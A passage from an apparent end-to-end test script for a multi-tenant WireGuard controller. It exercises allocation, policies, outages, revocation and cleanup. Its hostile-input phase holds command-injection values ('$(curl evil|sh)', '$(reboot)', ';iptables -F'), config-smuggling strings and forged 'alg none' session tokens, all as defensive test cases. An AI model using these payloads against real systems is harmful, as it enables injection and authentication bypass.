        grep -qx 201 "$TMP/alloc.$n.$i.code" || jq -r '"\(.error.code): \(.error.message)"' "$TMP/alloc.$n.$i" 2>/dev/null
      done | sort | uniq -c | tr -s ' \n' ' ')
      fail "$n parallel POSTs: $(sort "$TMP"/alloc.$n.*.code | uniq -c | tr -s ' \n' ' ')- $why"
      return 1
    fi
    addrs=$(for i in $(seq "$n"); do jq -r .machine.address "$TMP/alloc.$n.$i"; done | sort -u | grep -c .)
    [ "$addrs" = "$n" ] || { fail "$n parallel POSTs got $addrs distinct addresses"; return 1; }
  done
  [ "$(psql_q "SELECT count(DISTINCT address) FROM machines WHERE org_id = '$org'")" = 55 ] || { fail "rows"; return 1; }
  [ "$(hub_wg "$NS_ORG_13" "$DEV_ORG_13" show peers | grep -c .)" = 55 ] || { fail "hub does not hold 55 peers"; return 1; }
  api op DELETE "/api/v1/orgs/$org"; expect 204 "delete the allocation org"
}

phase_14_policy_flap_soak() {
  ensure_vms || return 1
  local i enabled present
  policy P14 "$ORG_A" "{\"action\":\"deny\",\"src\":{\"machine\":\"$M1\"},\"dst\":{\"machine\":\"$M2\"},\"protocol\":\"icmp\",\"enabled\":false}" || return 1
  for i in $(seq 30); do
    enabled=$([ $((i % 2)) = 1 ] && echo true || echo false)
    api op PATCH "/api/v1/orgs/$ORG_A/policies/$P14" "{\"enabled\":$enabled}"; expect 200 "toggle $i" || return 1
    present=$(rule_counter "$NS_ORG_A" "$P14")
    if [ "$enabled" = true ]; then
      [ "$present" != none ] || { fail "toggle $i: rule missing from the kernel"; return 1; }
      ! vm 1 ping -c1 -W1 "$IP_M2" >/dev/null || { fail "toggle $i: ping passed a deny"; return 1; }
    else
      [ "$present" = none ] || { fail "toggle $i: rule still in the kernel"; return 1; }
      vm 1 ping -c1 -W2 "$IP_M2" >/dev/null || { fail "toggle $i: ping blocked with the policy off"; return 1; }
    fi
  done
  api op DELETE "/api/v1/orgs/$ORG_A/policies/$P14"; expect 204 "delete"
}

phase_15_reconciler_soak() {
  ensure_vms || return 1
  local i
  for i in 1 2 3 4 5; do
    host ip netns del "$NS_ORG_A" || { fail "cannot delete the namespace"; return 1; }
    if [ $i = 3 ]; then
      stop_controller TERM && ensure_controller || return 1
    fi
    poll 30 "round $i: namespace recreated" test -e "/run/netns/$NS_ORG_A" || return 1
    poll 40 "round $i: vm1 reaches vm2 again" vm 1 ping -c1 -W1 "$IP_M2" || return 1
  done
}

phase_16_tenant_burst() {
  ensure_controller || return 1
  local i pids=() ports id ns
  for i in $(seq 8); do
    ip netns exec "$CTL" curl -s -o "$TMP/burst.$i" -w '%{http_code}\n' -b "$TMP/jar.op" -H "X-CSRF-Token: $(cat "$TMP/csrf.op")" \
      -H 'Content-Type: application/json' --data-binary "{\"name\":\"burst $i\",\"cidr\":\"10.16.0.0/24\"}" "$API/api/v1/orgs" >"$TMP/burst.$i.code" 2>>"$LOG" &
    pids+=($!)
  done
  wait "${pids[@]}"
  [ "$(cat "$TMP"/burst.*.code | grep -c '^201$')" = 8 ] || { fail "8 parallel org creates: $(cat "$TMP"/burst.*.code | tr '\n' ' ')"; return 1; }
  ports=$(for i in $(seq 8); do jq -r .listen_port "$TMP/burst.$i"; done | sort -u | grep -c .)
  [ "$ports" = 8 ] || { fail "only $ports distinct ports"; return 1; }
  for i in $(seq 8); do
    id=$(jq -r .id "$TMP/burst.$i")
    api op GET "/api/v1/orgs/$id/status"; expect 200 "status $i" || return 1
    ns=$(j .hub.netns)
    [ "$(j .hub.up)" = true ] || { fail "burst $i hub not up"; return 1; }
    tn "$ns" ip -o addr show dev wg0 | grep -q 'inet 10.16.0.1/24' || { fail "burst $i wg0"; return 1; }
    ctl ss -Huln | grep -q ":$(jq -r .listen_port "$TMP/burst.$i") " || { fail "burst $i port"; return 1; }
  done
  for i in $(seq 8); do api op DELETE "/api/v1/orgs/$(jq -r .id "$TMP/burst.$i")"; expect 204 "delete burst $i" || return 1; done
}

phase_17_live_flood_during_toggles() {
  ensure_vms || return 1
  local flood i out sent received fin fout
  policy P17 "$ORG_A" "{\"action\":\"deny\",\"src\":{\"machine\":\"$M1\"},\"dst\":{\"machine\":\"$M2\"},\"protocol\":\"icmp\",\"enabled\":false}" || return 1
  # Kernel counters in the mangle table (which the controller never touches): echo requests
  # from vm1 to vm2 entering the hub's forward path, and those leaving it towards vm2.
  local m="-s $IP_M1 -d $IP_M2 -p icmp --icmp-type echo-request"
  tn "$NS_ORG_A" iptables -t mangle -A FORWARD -i wg0 $m -m comment --comment e2e-in || { fail "mangle rule"; return 1; }
  tn "$NS_ORG_A" iptables -t mangle -A POSTROUTING -o wg0 $m -m comment --comment e2e-out
  bg_sh "ip netns exec $E-vm1 ping -q -c 1000 -i 0.01 -W 2 $IP_M2 > $TMP/flood17"; flood=$LAST_BG
  for i in $(seq 10); do
    sleep 0.4
    api op PATCH "/api/v1/orgs/$ORG_A/policies/$P17" "{\"enabled\":$([ $((i % 2)) = 1 ] && echo true || echo false)}"
    expect 200 "toggle $i" || { wait "$flood"; return 1; }
  done
  wait "$flood"
  out=$(cat "$TMP/flood17"); log "$out"
  sent=$(grep -o '^[0-9]* packets transmitted' <<<"$out" | cut -d' ' -f1)
  received=$(grep -o '[0-9]* received' <<<"$out" | cut -d' ' -f1)
  fin=$(tn "$NS_ORG_A" iptables -t mangle -L FORWARD -v -x -n | awk '/e2e-in/ {print $1}')
  fout=$(tn "$NS_ORG_A" iptables -t mangle -L POSTROUTING -v -x -n | awk '/e2e-out/ {print $1}')
  tn "$NS_ORG_A" iptables -t mangle -F FORWARD; tn "$NS_ORG_A" iptables -t mangle -F POSTROUTING
  api op DELETE "/api/v1/orgs/$ORG_A/policies/$P17"
  log "sent=$sent received=$received hub_in=$fin hub_out=$fout"
  [ "$fin" = "$sent" ] || { fail "sent $sent, but $fin reached the hub"; return 1; }
  [ $((fin - fout)) -gt 0 ] || { fail "no packet dropped during 5 deny periods"; return 1; }
  [ $((received + fin - fout)) = "$sent" ] || { fail "dropped $((fin - fout)) + received $received != sent $sent"; return 1; }
}

phase_18_internet_egress() {
  ensure_vms || return 1
  local hub n
  ! tn "$NS_ORG_A" ip route show table all | grep -q '^default' || { fail "default route in the tenant namespace"; return 1; }
  ! tn "$NS_ORG_A" iptables-save | grep -qE 'MASQUERADE|SNAT|DNAT' || { fail "NAT rules in the tenant namespace"; return 1; }
  ! tn "$NS_ORG_A" iptables-save -t nat | grep -q '^-A' || { fail "nat table not empty"; return 1; }
  ! tn "$NS_ORG_A" ping -c1 -W1 "$PUBLIC" >/dev/null 2>&1 || { fail "the tenant namespace reaches the controller host"; return 1; }
  ! tn "$NS_ORG_A" ping -c1 -W1 198.51.100.1 >/dev/null 2>&1 || { fail "the tenant namespace reaches an outside address"; return 1; }
  # A machine that sends everything to the hub gets nowhere outside the tenant network.
  hub=$(vm 1 wg show "${KP}v1" peers)
  vm 1 wg set "${KP}v1" peer "$hub" allowed-ips 0.0.0.0/0
  vm 1 ip route add 198.51.100.0/24 dev "${KP}v1"
  capture p18 "$NS_ORG_A" -Q in dst 198.51.100.1 || return 1
  IFACE=br0 capture p18out "$CTL" net 198.51.100.0/24 or net 10.100.0.0/16 || return 1
  local answered=0 out
  vm 1 ping -c 3 -i 0.2 -W 1 198.51.100.1 >/dev/null 2>&1 && answered=1
  sleep 0.3
  n=$(capture_stop p18); out=$(capture_stop p18out)
  vm 1 ip route del 198.51.100.0/24 dev "${KP}v1"
  vm 1 wg set "${KP}v1" peer "$hub" allowed-ips 10.100.0.0/16
  [ $answered = 0 ] || { fail "an outside address answered through the hub"; return 1; }
  [ "$n" -ge 3 ] || { fail "the packets did not even reach the hub ($n)"; return 1; }
  [ "$out" = 0 ] || { fail "$out overlay packets appeared on the controller host's network"; return 1; }
}

phase_19_long_name() {
  ensure_controller || return 1
  local name='Zürich "Ops" 🚀 & friends — a long name with spaces, '"'"'quotes'"'"' !'
  [ "$(printf %s "$name" | wc -m)" -ge 55 ] || { fail "test name too short"; return 1; }
  new_org ORG_19 "$name" 10.19.0.0/16 || return 1
  [ "$(j .hub.name)" = "$name" ] || { fail "name came back as $(j .hub.name)"; return 1; }
  machine M19 "$ORG_19" "🚀 \"laptop\"" || return 1
  grep -qF "tenant hub for \"$name\"" <<<"$CONF_M19" || { fail "name not in the config comment"; return 1; }
  api op DELETE "/api/v1/orgs/$ORG_19"; expect 204 "delete" || return 1
  local left; left=$(hub_remains "$NS_ORG_19" "$DEV_ORG_19")
  [ -z "$left" ] || { fail "left behind: $(echo $left)"; return 1; }
}

phase_20_delete_org() {
  ensure_controller || return 1
  local id t n left
  new_org ORG_20 "Doomed" 10.20.0.0/16 || return 1
  machine M20a "$ORG_20" a && machine M20b "$ORG_20" b || return 1
  policy P20 "$ORG_20" '{"action":"deny","src":"any","dst":{"tag":"db"}}' || return 1
  api op POST "/api/v1/orgs/$ORG_20/users" '{"email":"u20@e2e.test","password":"password-20","role":"admin"}'; expect 201 "user" || return 1
  login u20 u20@e2e.test password-20 || return 1
  id=$(hub_identity "$NS_ORG_20" "$DEV_ORG_20")
  [ -n "$id" ] || { fail "no hub before the delete"; return 1; }
  api op DELETE "/api/v1/orgs/$ORG_20"; expect 204 "delete org" || return 1
  for t in orgs:id machines:org_id users:org_id policies:org_id audit_log:org_id; do
    n=$(psql_q "SELECT count(*) FROM ${t%%:*} WHERE ${t#*:} = '$ORG_20'")
    [ "$n" = 0 ] || { fail "$n rows left in ${t%%:*}"; return 1; }
  done
  [ "$(psql_q "SELECT count(*) FROM sessions s JOIN users u ON u.id = s.user_id WHERE u.email = 'u20@e2e.test'")" = 0 ] || { fail "session left"; return 1; }
  left=$(hub_remains "$NS_ORG_20" "$DEV_ORG_20")
  [ -z "$left" ] || { fail "left behind: $(echo $left)"; return 1; }
  [ "$BACKEND" = kernel ] || ! kill -0 "$id" 2>/dev/null || { fail "daemon $id still running"; return 1; }
  ! ctl ss -Huln | grep -q ":$PORT_ORG_20 " || { fail "port still open"; return 1; }
  api u20 GET /api/v1/auth/me; expect 401 "the deleted org's user session" || return 1
}

phase_21_kill9_restart_under_flood() {
  ensure_vms || return 1
  local id ino flood out
  id=$(hub_identity "$NS_ORG_A" "$DEV_ORG_A"); ino=$(inode "$NS_ORG_A")
  bg_sh "ip netns exec $E-vm1 ping -q -c 800 -i 0.01 -W 2 $IP_M2 > $TMP/flood21"; flood=$LAST_BG
  sleep 1
  stop_controller KILL
  start_controller || { wait "$flood"; return 1; }
  wait "$flood"
  out=$(cat "$TMP/flood21"); log "$out"
  grep -q ' 0% packet loss' <<<"$out" || { fail "packets lost: $(grep loss <<<"$out")"; return 1; }
  [ "$(hub_identity "$NS_ORG_A" "$DEV_ORG_A")" = "$id" ] || { fail "hub was replaced ($id -> $(hub_identity "$NS_ORG_A" "$DEV_ORG_A"))"; return 1; }
  [ "$(inode "$NS_ORG_A")" = "$ino" ] || { fail "namespace was recreated"; return 1; }
  hub_alive "$NS_ORG_A" "$DEV_ORG_A" "$id" || { fail "hub died"; return 1; }
  login op "$OPERATOR" "$OPERATOR_PW"
}

phase_22_drift_repair() {
  ensure_vms || return 1
  local id key2
  # A wg peer removed by hand comes back, and traffic with it.
  key2=$(psql_q "SELECT public_key FROM machines WHERE id = '$M2'")
  hub_wg "$NS_ORG_A" "$DEV_ORG_A" set peer "$key2" remove
  poll 5 "peer re-added" hub_has_peer "$NS_ORG_A" "$DEV_ORG_A" "$key2" || return 1
  poll 30 "traffic after peer repair" vm 1 ping -c1 -W1 "$IP_M2" || return 1
  # With a deny in force: a flushed chain and a rogue ACCEPT are repaired and the deny holds.
  policy P22 "$ORG_A" "{\"action\":\"deny\",\"src\":{\"machine\":\"$M1\"},\"dst\":{\"machine\":\"$M2\"},\"protocol\":\"icmp\"}" || return 1
  tn "$NS_ORG_A" iptables -F MWG-ACL
  poll 5 "flushed chain repaired" sh -c "[ \"\$(ip netns exec $NS_ORG_A iptables -S MWG-ACL | grep -c mwg:$P22)\" = 1 ]" || return 1
  ! vm 1 ping -c2 -i 0.3 -W1 "$IP_M2" >/dev/null || { fail "deny not holding after chain repair"; return 1; }
  tn "$NS_ORG_A" iptables -I FORWARD 1 -j ACCEPT
  poll 5 "rogue ACCEPT removed" sh -c "! ip netns exec $NS_ORG_A iptables -S FORWARD | grep -qx -- '-A FORWARD -j ACCEPT'" || return 1
  ! vm 1 ping -c2 -i 0.3 -W1 "$IP_M2" >/dev/null || { fail "deny not holding after the rogue rule"; return 1; }
  api op DELETE "/api/v1/orgs/$ORG_A/policies/$P22"; expect 204 "delete" || return 1
  # A killed daemon (kernel: a deleted device) is replaced (stale socket cleared) and traffic
  # comes back.
  id=$(hub_identity "$NS_ORG_A" "$DEV_ORG_A")
  hub_crash "$NS_ORG_A" "$DEV_ORG_A"
  poll 5 "hub replaced" hub_replaced "$NS_ORG_A" "$DEV_ORG_A" "$id" || return 1
  poll 40 "traffic after daemon repair" vm 1 ping -c1 -W1 "$IP_M2"
}

hub_replaced() { # hub_replaced NS DEV OLD_ID: another hub is there and answers
  local now; now=$(hub_identity "$1" "$2")
  [ -n "$now" ] && [ "$now" != "$3" ] && hub_wg "$1" "$2" show >/dev/null
}

phase_23_postgres_outage() {
  ensure_vms || return 1
  local pinger out t0
  api op GET "/api/v1/orgs/$ORG_A/status"; expect 200 "status before" || return 1
  bg_sh "ip netns exec $E-vm1 ping -q -c 30 -i 1 -W 2 $IP_M2 > $TMP/ping23"; pinger=$LAST_BG
  pg_stop || { fail "cannot stop PostgreSQL"; wait "$pinger"; return 1; }
  t0=$(date +%s)
  api op POST "/api/v1/orgs/$ORG_A/machines" '{"name":"during outage"}'
  [ "$STATUS" = 503 ] || { fail "write during the outage: $STATUS"; pg_start; wait "$pinger"; return 1; }
  api op GET "/api/v1/orgs/$ORG_A/status"
  [ "$STATUS" = 200 ] && [ "$(j .hub.up)" = true ] || { fail "kernel status during the outage: $STATUS"; pg_start; wait "$pinger"; return 1; }
  api - GET /readyz
  [ "$STATUS" = 503 ] || { fail "readyz during the outage: $STATUS"; pg_start; wait "$pinger"; return 1; }
  while [ $(($(date +%s) - t0)) -lt 30 ]; do sleep 1; done
  kill -0 "$CTL_PID" || { fail "controller died during the outage"; pg_start; return 1; }
  pg_start || { fail "cannot start PostgreSQL"; return 1; }
  wait "$pinger"; out=$(cat "$TMP/ping23"); log "$out"
  grep -q ' 0% packet loss' <<<"$out" || { fail "tunnel traffic lost during the outage: $(grep loss <<<"$out")"; return 1; }
  poll 30 "readyz after recovery" sh -c "ip netns exec $CTL curl -sf $API/readyz" || return 1
  api op POST "/api/v1/orgs/$ORG_A/machines" '{"name":"after outage"}'; expect 201 "write after recovery" || return 1
  api op DELETE "/api/v1/orgs/$ORG_A/machines/$(j .machine.id)"
}

snapshot() { # what hostile input must not change
  psql_q "SELECT (SELECT count(*) FROM orgs), (SELECT count(*) FROM machines), (SELECT count(*) FROM policies), (SELECT count(*) FROM users), (SELECT md5(string_agg(t::text, '' ORDER BY id)) FROM orgs t), (SELECT md5(string_agg(t::text, '' ORDER BY id)) FROM machines t)"
  ip netns list 2>/dev/null | awk '{print $1}' | grep "^$KP-" | sort
  local ns; for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^$KP-"); do
    ip netns exec "$ns" iptables-save -t filter | grep '^-'; ip netns exec "$ns" ip -o addr
  done
  if [ "$BACKEND" = kernel ]; then
    for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^$KP-"); do
      echo "$ns $(ip netns exec "$ns" wg show wg0 allowed-ips 2>/dev/null | sort | tr '\n' ' ')"
    done
  else
    wg show all allowed-ips 2>/dev/null | grep "^$KP" | sort
  fi
}

# --- revocation (phase 25) ------------------------------------------------------------------
# received VM PORT: bytes the stream server in VM has received so far on PORT (from ss).
received() {
  vm "$1" ss -Htin state established "( sport = :$2 )" | grep -o 'bytes_received:[0-9]*' \
    | cut -d: -f2 | awk '{s += $1} END {print s + 0}'
}
# flowing VM PORT: bytes received on PORT during one second.
flowing() { local a b; a=$(received "$1" "$2"); sleep 1; b=$(received "$1" "$2"); echo $((b - a)); }
stream_flows() { [ "$(flowing "$1" "$2")" -gt 20000 ]; }
# stream FROM_VM TO_VM TO_IP PORT VAR: an iperf3 stream (1 Mbit/s) that flows; VAR keeps its pids.
stream() {
  local pids
  bg_vm "$2" iperf3 -s -p "$4"; pids=$LAST_BG
  sleep 0.3
  bg_vm "$1" iperf3 -c "$3" -p "$4" -t 300 -b 1M -l 1000; pids="$pids $LAST_BG"
  printf -v "$5" %s "$pids"
  poll 10 "stream to vm$2 port $4 flows" stream_flows "$2" "$4"
}
stop_stream() { local p; for p in $1; do kill "$p" 2>/dev/null; wait "$p" 2>/dev/null; done; return 0; }
# revoked WHAT: a second after a change, the revoked stream (vm8:5201) has stopped and the
# unrelated one (vm7:5202) still runs.
revoked() {
  sleep 1
  local revoked unrelated
  revoked=$(flowing 8 5201); unrelated=$(flowing 7 5202)
  log "$1: revoked stream $revoked B/s, unrelated stream $unrelated B/s"
  [ "$revoked" -lt 2000 ] || { fail "$1: the revoked stream still delivered $revoked bytes/s"; return 1; }
  [ "$unrelated" -gt 20000 ] || { fail "$1: the unrelated stream stalled ($unrelated bytes/s)"; return 1; }
}
patch_json() { # patch_json PATH JSON WHAT
  api op PATCH "$1" "$2"; expect 200 "$3"
}

# Under default deny the chain accepts replies of established flows; taking an allow away must
# also cut the flows it admitted, in the same reconcile.
phase_25_revocation_cuts_flows() {
  ensure_controller || return 1
  local R=/api/v1/orgs S OTHER PA
  if [ -z "${ORG_R:-}" ]; then new_org ORG_R "Revocation" 10.102.0.0/16 deny || return 1; fi
  machine R1 "$ORG_R" r1 && machine R2 "$ORG_R" r2 || return 1
  patch_json "$R/$ORG_R/machines/$R1" '{"tags":["a"]}' "tag r1" || return 1
  patch_json "$R/$ORG_R/machines/$R2" '{"tags":["b"]}' "tag r2" || return 1
  vm_up 7 "$CONF_R1" && vm_up 8 "$CONF_R2" || return 1
  poll 20 "both handshake with hub R" handshaken "$NS_ORG_R" "$DEV_ORG_R" || return 1
  # The unrelated stream r2 → r1 on tcp/5202 stays allowed throughout.
  policy PU "$ORG_R" "{\"action\":\"allow\",\"src\":{\"machine\":\"$R2\"},\"dst\":{\"machine\":\"$R1\"},\"protocol\":\"tcp\",\"ports\":\"5202\"}" || return 1
  stream 8 7 "$IP_R1" 5202 OTHER || return 1
  local allow="{\"action\":\"allow\",\"src\":{\"tag\":\"a\"},\"dst\":{\"tag\":\"b\"},\"protocol\":\"tcp\",\"ports\":\"5201\"}"

  policy PA "$ORG_R" "$allow" && stream 7 8 "$IP_R2" 5201 S || return 1
  api op DELETE "$R/$ORG_R/policies/$PA"; expect 204 "delete the allow" || return 1
  revoked "policy deleted" || return 1; stop_stream "$S"

  policy PA "$ORG_R" "$allow" && stream 7 8 "$IP_R2" 5201 S || return 1
  patch_json "$R/$ORG_R/policies/$PA" '{"enabled":false}' "disable the allow" || return 1
  revoked "policy disabled" || return 1; stop_stream "$S"

  patch_json "$R/$ORG_R/policies/$PA" '{"enabled":true}' "enable the allow" || return 1
  stream 7 8 "$IP_R2" 5201 S || return 1
  patch_json "$R/$ORG_R/machines/$R1" '{"tags":[]}' "untag r1" || return 1
  revoked "tag removed" || return 1; stop_stream "$S"

  patch_json "$R/$ORG_R" '{"default_action":"allow"}' "default allow" || return 1
  stream 7 8 "$IP_R2" 5201 S || return 1
  patch_json "$R/$ORG_R" '{"default_action":"deny"}' "default deny" || return 1
  revoked "default flipped to deny" || return 1; stop_stream "$S"

  # A deleted machine's tracked flows go with it: its address goes to the next machine, which
  # must not inherit them.
  patch_json "$R/$ORG_R/machines/$R1" '{"tags":["a"]}' "tag r1 again" || return 1
  stream 7 8 "$IP_R2" 5201 S || return 1
  api op DELETE "$R/$ORG_R/machines/$R2"; expect 204 "delete machine r2" || return 1
  local left
  left=$(tn "$NS_ORG_R" conntrack -L -d "$IP_R2" 2>/dev/null | grep -c . || true)
  [ "$left" = 0 ] || { fail "$left tracked flows to the deleted machine's address remain"; return 1; }
  stop_stream "$S"; stop_stream "$OTHER"
}

phase_24_hostile_input() {
  ensure_vms && ensure_vm3 || return 1
  api op POST "/api/v1/orgs/$ORG_A/users" '{"email":"admina@e2e.test","password":"admin-a-password","role":"admin"}'
  [ "$STATUS" = 201 ] || [ "$STATUS" = 409 ] || { fail "admin user: $STATUS"; return 1; }
  login adminA admina@e2e.test admin-a-password || return 1
  local before after c code path body m3_other
  before=$(snapshot)
  local orgs="/api/v1/orgs" ma="/api/v1/orgs/$ORG_A/machines" pa="/api/v1/orgs/$ORG_A/policies"
  local -a cases=(
    "op|POST|$orgs|{\"name\":\"a\\nb\"}"
    "op|POST|$orgs|{\"name\":\"nul\\u0000byte\"}"
    "op|POST|$orgs|{\"name\":\"x\",\"cidr\":\"\$(reboot)\"}"
    "op|POST|$orgs|{\"name\":\"x\",\"cidr\":\"8.8.8.0/24\"}"
    "op|POST|$orgs|{\"name\":\"x\",\"cidr\":\"10.0.0.0/31\"}"
    "op|POST|$orgs|{\"name\":\"x\",\"cidr\":\"10.0.0.0/16;iptables -F\"}"
    "adminA|POST|$ma|{\"name\":\"\$(curl evil|sh)\\n[Peer]\\nAllowedIPs=0.0.0.0/0\"}"
    "adminA|POST|$ma|{\"name\":\"ok\",\"public_key\":\"not-a-key\"}"
    "adminA|POST|$ma|{\"name\":\"ok\",\"public_key\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==\"}"
    "adminA|POST|$ma|{\"name\":\"ok\",\"tags\":[\"-j ACCEPT\"]}"
    "adminA|POST|$ma|{\"name\":\"ok\",\"org_id\":\"$ORG_B\"}"
    "adminA|POST|$pa|{\"action\":\"deny\",\"src\":{\"machine\":\"$M3\"},\"dst\":\"any\"}"
    "adminA|POST|$pa|{\"action\":\"deny\",\"src\":{\"cidr\":\"0.0.0.0/0\"},\"dst\":\"any\"}"
    "adminA|POST|$pa|{\"action\":\"deny\",\"src\":\"any\",\"dst\":\"any\",\"protocol\":\"tcp\",\"ports\":\"1-99999\"}"
    "adminA|POST|$pa|{\"action\":\"deny\",\"src\":{\"tag\":\"x\\\" -j ACCEPT\"},\"dst\":\"any\"}"
    "adminA|GET|/api/v1/orgs/$ORG_B/machines|"
    "adminA|DELETE|/api/v1/orgs/$ORG_B|"
    "adminA|DELETE|/api/v1/orgs/$ORG_B/machines/$M3|"
    "adminA|DELETE|/api/v1/orgs/$ORG_A/machines/$M3|"
    "adminA|PATCH|/api/v1/orgs/$ORG_B|{\"name\":\"mine now\"}"
    "adminA|POST|$orgs|{\"name\":\"escalate\"}"
  )
  for c in "${cases[@]}"; do
    IFS='|' read -r who method path body <<<"$c"
    api "$who" "$method" "$path" "$body"
    [[ "$STATUS" =~ ^4[0-9][0-9]$ ]] || { fail "$method $path $body -> $STATUS"; return 1; }
    [ "$(j .error.code)" != null ] || { fail "no JSON error for $method $path"; return 1; }
  done
  # Forged session tokens.
  local tok forged
  tok=$(awk '$6 == "meshwg_session" {print $7}' "$TMP/jar.adminA")
  for forged in "$(printf '%s' '{"alg":"none","typ":"JWT"}' | base64 -w0 | tr '+/' '-_' | tr -d '=').$(cut -d. -f2 <<<"$tok")." \
                "$(cut -d. -f1,2 <<<"$tok")." "$(cut -d. -f1,2 <<<"$tok").AAAA$(cut -d. -f3 <<<"$tok" | cut -c5-)"; do
    code=$(ip netns exec "$CTL" curl -s -o /dev/null -w '%{http_code}' -H "Cookie: meshwg_session=$forged" "$API/api/v1/orgs")
    [ "$code" = 401 ] || { fail "forged token answered $code"; return 1; }
  done
  after=$(snapshot)
  [ "$before" = "$after" ] || { fail "kernel or database changed: $(diff <(echo "$before") <(echo "$after") | head -5 | tr '\n' ' ')"; return 1; }
}

# ==========================================================================================
# Cleanup and the check that nothing is left.
# ==========================================================================================

# Every process, namespace, socket and file this run made; idempotent.
cleanup() {
  set +u
  [ -n "$CTL_PID" ] && kill -9 "$CTL_PID" 2>/dev/null
  local p f pid ns
  for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null; done
  wait 2>/dev/null
  for f in "$TMP"/"$KP"v*.conf; do
    [ -e "$f" ] || continue
    ns=$E-vm$(basename "$f" .conf | sed "s/^${KP}v//")
    ip netns exec "$ns" wg-quick down "$f" >>"$LOG" 2>&1
  done
  # The hubs' daemons (detached on purpose, so they survive the controller): by pidfile.
  for f in "$RUNDIR"/*.pid; do
    [ -e "$f" ] || continue
    pid=$(cut -d' ' -f1 "$f")
    tr '\0' ' ' 2>/dev/null <"/proc/$pid/cmdline" | grep -q "wireguard-go -f $KP" && kill -9 "$pid"
  done
  # Client daemons of wg-quick whose `down` did not run: exact command line, by pid.
  for p in /proc/[0-9]*; do
    case "$(tr '\0' ' ' 2>/dev/null <"$p/cmdline")" in
      "wireguard-go ${KP}"*) kill -9 "${p#/proc/}" 2>/dev/null ;;
    esac
  done
  # Whatever still runs inside one of our namespaces (iperf3, tcpdump, ping…) is ours.
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep -E "^($E-|$KP-)"); do
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null; done
  done
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep -E "^($E-|$KP-)"); do
    ip netns del "$ns" 2>>"$LOG"
  done
  sleep 0.3
  rm -f /var/run/wireguard/"$KP"*.sock
  if [ -e "$PGDIR/data/postmaster.pid" ]; then
    runuser -u postgres -- "$PGBIN/pg_ctl" -D "$PGDIR/data" -m immediate -w stop >>"$LOG" 2>&1
  fi
}

leftovers() {
  local left=""
  left+=$(ip netns list 2>/dev/null | awk '{print $1}' | grep -E "^($E-|$KP-)" | tr '\n' ' ')
  left+=$(ip -o link show 2>/dev/null | awk -F': ' '{print $2}' | grep -E "^($E|$KP)" | tr '\n' ' ')
  left+=$(ls /var/run/wireguard 2>/dev/null | grep "^$KP" | tr '\n' ' ')
  left+=$(grep -E " /run/netns/($E-|$KP-)" /proc/mounts | awk '{print $2}' | tr '\n' ' ')
  local p c
  for p in /proc/[0-9]*; do
    c=$(tr '\0' ' ' 2>/dev/null <"$p/cmdline")
    case "$c" in
      *"wireguard-go"*"$KP"*|*"$TMP"*) [ "${p#/proc/}" != $$ ] && left+="pid ${p#/proc/}($c) " ;;
    esac
  done
  [ -z "$left" ] || { echo "$left"; return 1; }
}

finish() {
  local code=$?
  cleanup
  if [ "${KEEP_LOG:-}" ] || [ "${FAILED:-0}" -gt 0 ] || [ $code -ne 0 ]; then
    cp "$LOG" "/tmp/meshwg-e2e-$RUN.log" 2>/dev/null && cat "$TMP/serve.log" >>"/tmp/meshwg-e2e-$RUN.log" 2>/dev/null
    echo "log: /tmp/meshwg-e2e-$RUN.log" >&2
  fi
  rm -rf "$TMP"
}

# ==========================================================================================
# Main
# ==========================================================================================

[ "$(id -u)" = 0 ] || { echo "e2e/run.sh: run as root" >&2; exit 1; }
trap finish EXIT
trap 'exit 130' INT TERM

for tool in wireguard-go wg-quick iptables ipset tcpdump iperf3 jq curl ping; do
  command -v "$tool" >/dev/null || { echo "e2e/run.sh: $tool is missing (scripts/deps.sh installs it)" >&2; exit 1; }
done
if [ ! -x "$BIN" ] || [ -z "${MESHWG_BIN:-}" ]; then
  (cd "$ROOT" && cargo build --quiet --bin meshwg) >>"$LOG" 2>&1 || { echo "e2e/run.sh: build failed (see $LOG)" >&2; exit 1; }
fi
mkdir -p "$RUNDIR"
setup_pg || { echo "e2e/run.sh: cannot start PostgreSQL" >&2; exit 1; }
ip netns add "$CTL" && ip -n "$CTL" link set lo up \
  && ip -n "$CTL" link add br0 type bridge && ip -n "$CTL" addr add "$PUBLIC/24" dev br0 \
  && ip -n "$CTL" link set br0 up || { echo "e2e/run.sh: cannot build the topology" >&2; exit 1; }

mapfile -t ALL < <(declare -F | awk '{print $3}' | grep '^phase_' | sort)
SELECTED=()
if [ $# -eq 0 ]; then
  SELECTED=("${ALL[@]}")
else
  for want in "$@"; do
    for p in "${ALL[@]}"; do
      num=${p#phase_}; num=${num%%_*}; name=${p#phase_??_}
      if [ "$want" = "$name" ] || [ "$(printf %02d "$((10#$want))" 2>/dev/null)" = "$num" ]; then SELECTED+=("$p"); fi
    done
  done
fi
[ ${#SELECTED[@]} -gt 0 ] || { echo "e2e/run.sh: no such phase: $*" >&2; exit 1; }

PASSED=0 FAILED=0
for p in "${SELECTED[@]}"; do
  name=${p#phase_}
  WHY=
  t0=$(date +%s%N)
  log "=== $name"
  if "$p" && [ -z "$WHY" ]; then
    PASSED=$((PASSED + 1)); printf 'PASS %s (%.1fs)\n' "$name" "$(( ($(date +%s%N) - t0) / 1000000 ))e-3"
  else
    FAILED=$((FAILED + 1)); printf 'FAIL %s: %s\n' "$name" "${WHY:-returned an error}"
  fi
done

cleanup
if left=$(leftovers); then
  PASSED=$((PASSED + 1)); echo "PASS nothing left behind"
else
  FAILED=$((FAILED + 1)); echo "FAIL nothing left behind: $left"
fi
echo "run time $(( $(date +%s) - STARTED ))s" >&2
echo "$PASSED passed, $FAILED failed"
[ "$FAILED" = 0 ]
